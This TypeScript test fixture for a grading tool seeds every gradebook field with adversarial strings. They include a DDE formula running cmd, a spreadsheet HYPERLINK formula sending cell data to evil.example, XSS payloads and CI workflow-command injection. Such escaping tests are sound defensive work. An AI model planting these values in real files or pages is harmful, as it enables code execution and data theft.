import type { Grade } from '../../../src/grade/gradebook.ts'
import type { CheckGrade, Result } from '../../../src/grade/result.ts'
import type { GradeAbout } from '../../../src/report/grade/about.ts'
import { same } from '../../helpers/grades.ts'
import { about, grades } from './class.ts'

/** Whatever a student, a machine, a lab or a roster may say, in every place where they may say it. */
export const strings: Record<string, string> = {
  formula: "=cmd|' /C calc'!A0",
  plus: '+1+1',
  minus: '-2+3',
  at: '@SUM(1+1)*cmd',
  tab: '\t=1+1',
  return: '\r=1+1',
  link: '=HYPERLINK("http://evil.example?"&A1,"click")',
  separator: 'a;=1+1;b,=2+2',
  html: '<img src=x onerror=alert(1)><b>',
  script: '</script></style></title><script>alert(1)</script>',
  attribute: '" onmouseover="alert(1)" x=\'',
  entity: '&lt;script&gt; &amp; &#60;',
  cdata: ']]> <![CDATA[ <!-- --> <?xml?>',
  escape: '\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\ \x9b1m \x07\x08\x7f',
  command: '::error::x\n::set-output name=a::b\r\n::stop-commands::x%0A::warning::y',
  pipe: '| a | b |\n| --- | --- |',
  backticks: '`code` ``` ```bash\nx',
  markdown: '# x\n- [a](javascript:alert(1)) ![](http://evil.example/x.png) **b** @everyone #1 ~~x~~',
  lines: 'a\nb\r\nc\rd\u2028e\u2029f\u0085g',
  reversed: 'txt.\u202egpj\u2066x\u2069',
  nul: 'a\0b\ud800c\udfff\ufffe',
  template: '${x} {{ x }} $(x) %s',
  points: 'Points Possible',
  proto: '__proto__',
  long: 'x'.repeat(100_000),
  longEscapes: '\x1b[31m'.repeat(20_000),
  longQuotes: '"'.repeat(100_000),
  Korean: '김미라 (한국어) 👩‍💻 e\u0301',
  empty: '',
  space: ' \t ',
}

/** The small class, the text wherever one may stand. */
export function poisoned(text: string): { about: GradeAbout; grades: Grade[] } {
  const check = (own: CheckGrade): CheckGrade => ({
    ...own,
    ...{ title: same(text), subject: text, kind: text },
    differences: [
      { path: text, expected: text, seen: text, near: text },
      { path: text, rule: 'too-old', expected: text, seen: text },
    ],
    cause: { code: 'a.b', message: same(text), advice: same(text) },
    ...(own.error ? { error: { ...own.error, detail: text } } : {}),
  })
  const result = (own: Result | null): Result | null =>
    own && {
      ...own,
      ...{ course: text, runId: text, resultId: text, lab: { id: own.lab.id, digest: text } },
      target: { kind: 'ssh', label: text },
      steps: own.steps.map(step => ({ ...step, title: same(text) })),
      checks: own.checks.map(check),
      flags: own.flags.map(flag => ({ ...flag, detail: text })),
      reason: same(text),
    }
  const columns = ['canvas_id', 'sis_user_id', 'sis_login_id', 'moodle_idnumber', 'username']
  const decision = { value: 3, reason: text, by: text }
  return {
    about: {
      ...about,
      ...{ course: text, runId: text, appeal: same(text) },
      assignment: { ...about.assignment, title: text },
      lab: { ...about.lab, digest: text, file: text === '' ? 'labs/shop/lab.yaml' : text },
    },
    grades: grades.map(grade => ({
      ...grade,
      student: {
        ...grade.student,
        ...{ name: text, email: text, section: text, group: text },
        columns: Object.fromEntries(columns.map(name => [name, text])),
      },
      result: result(grade.result),
      checks: grade.checks.map(check),
      awards: new Map([['build/image', decision]]),
      override: grade.state === 'graded' ? decision : null,
    })),
  }
}
